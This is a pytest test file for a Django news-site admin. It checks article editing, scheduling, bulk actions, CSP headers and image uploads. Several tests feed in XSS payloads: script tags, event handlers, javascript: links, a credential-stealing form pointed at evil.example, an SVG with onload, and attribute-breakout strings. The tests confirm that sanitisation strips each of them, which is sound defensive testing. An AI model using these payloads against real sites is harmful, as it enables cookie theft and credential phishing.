import io
from datetime import timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import timezone
from PIL import Image

from articles.models import Article, ArticleImage
from tests import factories
from tests.articles.conftest import picture_bytes, picture_upload

pytestmark = pytest.mark.django_db

ADD_URL = "/admin/articles/article/add/"
LIST_URL = "/admin/articles/article/"
UPLOAD_URL = "/admin/articles/article/upload-image/"

XSS_BODY = (
    '<p>正文<script>alert("xss")</script></p>'
    '<img src="/media/x.png" onerror="alert(1)">'
    '<a href="javascript:alert(document.cookie)">点我</a>'
    '<a href="  JAVASCRIPT:alert(1)">点我2</a>'
    '<img src="data:image/png;base64,iVBORw0KGgo=">'
    '<iframe src="https://evil.example/"></iframe>'
    '<form action="https://evil.example/steal"><input name="pw"><button>go</button></form>'
    '<p style="color:red" onmouseover="alert(1)">样式</p>'
    "<svg/onload=alert(1)>"
    '<details open ontoggle="alert(1)">x</details>'
    '<object data="javascript:alert(1)"></object>'
    '"><script>alert(1)</script>'
)


def _form_data(category, **overrides):
    data = {
        "title": "XSS测试文章",
        "category": category.pk,
        "summary": "",
        "body": "<p>正文</p>",
        "tags": "",
        "status": "published",
        "published_at_0": "",
        "published_at_1": "",
        "source_name": "",
        "source_url": "",
        "seo_title": "",
        "seo_description": "",
    }
    data.update(overrides)
    # The admin edits each translated field in both languages; these tests write Chinese.
    for name in ("title", "summary", "body", "source_name", "seo_title", "seo_description"):
        if name in data:
            data[f"{name}_zh_hans"] = data.pop(name)
    return data


@pytest.fixture
def editor_client(client, editor):
    client.force_login(editor)
    return client


def test_editors_write_an_article_through_the_admin(editor_client, editor, category, park):
    response = editor_client.post(
        ADD_URL,
        _form_data(
            category,
            title="松江发布新政",
            tags="智能制造，集成电路、 G60科创走廊",
            parks=[park.pk],
            summary="摘要",
            featured="on",
            cover=picture_upload("cover.jpg", fmt="JPEG"),
        ),
    )
    assert response.status_code == 302, response.context["adminform"].form.errors
    article = Article.objects.get(title="松江发布新政")
    assert article.author == editor
    assert sorted(article.tags.names()) == sorted(["G60科创走廊", "集成电路", "智能制造"])
    assert list(article.parks.all()) == [park]
    assert article.featured and article.is_public
    assert article.cover.name.startswith("articles/covers/")


def test_admin_form_cleans_xss_from_the_body_and_the_page_renders_it_harmless(
    editor_client, client, category
):
    response = editor_client.post(ADD_URL, _form_data(category, body=XSS_BODY))
    assert response.status_code == 302
    article = Article.objects.get(title="XSS测试文章")

    stored = article.body.lower()
    for bad in [
        "<script",
        "onerror",
        "onmouseover",
        "ontoggle",
        "onload",
        "javascript:",
        "data:",
        "<iframe",
        "<form",
        "<input",
        "<button",
        "style=",
        "<svg",
        "<object",
    ]:
        assert bad not in stored, bad
    assert "<p>正文</p>" in article.body
    assert "点我" in article.body

    client.logout()
    html = Client().get(article.get_absolute_url()).content.decode()
    body = html[
        html.index('class="prose article__body"') : html.index(
            "</div>", html.index('class="prose article__body"')
        )
    ]
    for bad in ["<script", "onerror", "javascript:", "<iframe", "<form", "style="]:
        assert bad not in body.lower(), bad


def test_scheduling_for_later_is_accepted_and_reported(editor_client, category):
    tomorrow = timezone.localtime() + timedelta(days=1)
    response = editor_client.post(
        ADD_URL,
        _form_data(
            category,
            published_at_0=tomorrow.strftime("%Y-%m-%d"),
            published_at_1="09:30:00",
        ),
        follow=True,
    )
    article = Article.objects.get(title="XSS测试文章")
    assert article.is_scheduled
    assert "自动上线" in response.content.decode()


def test_bad_tags_are_refused_with_a_message(editor_client, category):
    response = editor_client.post(ADD_URL, _form_data(category, tags="好, " + "长" * 60))
    assert response.status_code == 200
    assert "太长" in str(response.context["adminform"].form.errors["tags"])
    assert not Article.objects.exists()


def test_article_list_filters_by_publication_state(editor_client, category):
    factories.make_article(category=category, title="已上线文章")
    factories.make_article(
        category=category, title="定时文章", published_at=timezone.now() + timedelta(days=1)
    )
    factories.make_article(category=category, title="草稿文章", status=Article.Status.DRAFT)

    html = editor_client.get(LIST_URL, {"state": "scheduled"}).content.decode()
    assert "定时文章" in html and "已上线文章" not in html and "草稿文章" not in html
    html = editor_client.get(LIST_URL, {"state": "draft"}).content.decode()
    assert "草稿文章" in html and "定时文章" not in html
    html = editor_client.get(LIST_URL, {"state": "live"}).content.decode()
    assert "已上线文章" in html and "草稿文章" not in html
    html = editor_client.get(LIST_URL, {"q": "定时"}).content.decode()
    assert "定时文章" in html and "已上线文章" not in html


def test_bulk_publish_and_unpublish(editor_client, category):
    draft = factories.make_article(category=category, status=Article.Status.DRAFT)
    scheduled = factories.make_article(
        category=category, published_at=timezone.now() + timedelta(days=3)
    )
    live = factories.make_article(
        category=category, published_at=timezone.now() - timedelta(days=9)
    )
    live_at = live.published_at

    response = editor_client.post(
        LIST_URL,
        {"action": "publish_selected", "_selected_action": [draft.pk, scheduled.pk, live.pk]},
        follow=True,
    )
    assert "已发布 2 篇文章" in response.content.decode()
    for article in (draft, scheduled, live):
        article.refresh_from_db()
        assert article.is_public
    assert live.published_at == live_at

    editor_client.post(LIST_URL, {"action": "unpublish_selected", "_selected_action": [live.pk]})
    live.refresh_from_db()
    assert live.status == Article.Status.DRAFT
    assert not Article.objects.published().filter(pk=live.pk).exists()


def test_bulk_feature(editor_client, category):
    article = factories.make_article(category=category)
    editor_client.post(LIST_URL, {"action": "feature_selected", "_selected_action": [article.pk]})
    article.refresh_from_db()
    assert article.featured


def test_the_edit_page_allows_inline_styles_for_the_editor_only(editor_client, category):
    article = factories.make_article(category=category)
    edit_csp = editor_client.get(f"/admin/articles/article/{article.pk}/change/")[
        "Content-Security-Policy"
    ]
    assert "style-src 'self' 'unsafe-inline'" in edit_csp
    assert "script-src 'self' 'nonce-" in edit_csp
    assert "unsafe-inline" not in edit_csp.split("script-src")[1].split(";")[0]
    list_csp = editor_client.get(LIST_URL)["Content-Security-Policy"]
    assert "unsafe-inline" not in list_csp
    public_csp = Client().get(article.get_absolute_url())["Content-Security-Policy"]
    assert "unsafe-inline" not in public_csp


def test_the_edit_page_loads_the_editor_from_our_own_static_files(editor_client):
    html = editor_client.get(ADD_URL).content.decode()
    assert "data-django-prose-editor-configurable=" in html
    assert "/static/django_prose_editor/editor.js" in html
    assert "upload-image" in html
    assert 'data-tag-autocomplete="/admin/articles/article/tag-autocomplete/"' in html
    assert "https://" not in html.split("<body")[0]


# ---- picture upload ------------------------------------------------------------


def test_the_upload_window_needs_staff(client):
    response = client.get(UPLOAD_URL)
    assert response.status_code == 302
    assert "/admin/login/" in response["Location"]


def test_staff_without_article_rights_cannot_upload(client, staff_user):
    client.force_login(staff_user)
    assert client.get(UPLOAD_URL).status_code == 403


def test_upload_is_csrf_protected(editor):
    client = Client(enforce_csrf_checks=True)
    client.force_login(editor)
    response = client.post(UPLOAD_URL, {"image": picture_upload()})
    assert response.status_code == 403
    assert not ArticleImage.objects.exists()


def test_uploaded_pictures_are_re_encoded_without_metadata(editor_client, editor):
    image = Image.new("RGB", (3000, 2000), (200, 40, 40))
    exif = Image.Exif()
    exif[0x010F] = "SpyCam"  # Make
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", exif=exif.tobytes())
    payload = buffer.getvalue() + b"<script>alert(1)</script>"
    upload = SimpleUploadedFile("photo.jpg", payload, content_type="image/jpeg")

    response = editor_client.post(
        UPLOAD_URL, {"image": upload, "alt_text": "厂房外景"}, HTTP_ACCEPT="application/json"
    )

    assert response.status_code == 201
    data = response.json()
    picture = ArticleImage.objects.get()
    assert data["url"] == picture.image.url
    assert data["url"].startswith("/media/articles/body/")
    assert (data["width"], data["height"]) == (1600, 1067)
    assert picture.uploaded_by == editor and picture.alt_text == "厂房外景"
    stored = picture.image.read()
    assert b"SpyCam" not in stored and b"<script>" not in stored
    assert not Image.open(io.BytesIO(stored)).getexif()


def test_upload_window_hands_the_picture_back_to_the_editor(editor_client):
    response = editor_client.post(
        f"{UPLOAD_URL}?CKEditorFuncNum=-3", {"image": picture_upload(), "alt_text": "车间"}
    )
    html = response.content.decode()
    picture = ArticleImage.objects.get()
    assert 'data-func-num="-3"' in html
    assert f'data-pick-url="{picture.image.url}"' in html
    assert "articles-image-picker.js" in html


@pytest.mark.parametrize(
    "name, content",
    [
        ("evil.png", b"<html><script>alert(1)</script></html>"),
        ("evil.jpg", b"GIF89a" + b"\x00" * 50),
        ("empty.png", b""),
        ("doc.pdf", b"%PDF-1.4 hello"),
        ("pic.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'),
    ],
)
def test_files_that_are_not_pictures_are_refused(editor_client, name, content):
    upload = SimpleUploadedFile(name, content, content_type="image/png")
    response = editor_client.post(UPLOAD_URL, {"image": upload}, HTTP_ACCEPT="application/json")
    assert response.status_code == 400
    assert "image" in response.json()["errors"]
    assert not ArticleImage.objects.exists()


def test_funcnum_that_is_not_a_number_is_ignored(editor_client):
    html = editor_client.get(
        UPLOAD_URL, {"CKEditorFuncNum": '1"><script>alert(1)</script>'}
    ).content.decode()
    assert 'data-func-num=""' in html
    assert "<script>alert(1)" not in html


def test_tag_suggestions_list_existing_tags_most_used_first(editor_client, category):
    factories.make_article(category=category, tags=["智能制造", "智能网联汽车"])
    factories.make_article(category=category, tags=["智能网联汽车"])
    factories.make_article(category=category, tags=["生物医药"])

    response = editor_client.get("/admin/articles/article/tag-autocomplete/", {"q": "智能"})

    assert response.json() == {"results": ["智能网联汽车", "智能制造"]}


def test_tag_suggestions_need_article_rights(client, staff_user):
    client.force_login(staff_user)
    assert client.get("/admin/articles/article/tag-autocomplete/", {"q": "x"}).status_code == 403


def test_categories_and_pictures_have_admin_pages(editor_client, category):
    factories.make_article(category=category)
    ArticleImage.objects.create(image=SimpleUploadedFile("a.png", picture_bytes()))
    html = editor_client.get("/admin/articles/category/").content.decode()
    assert "政策解读" in html
    assert editor_client.get("/admin/articles/articleimage/").status_code == 200
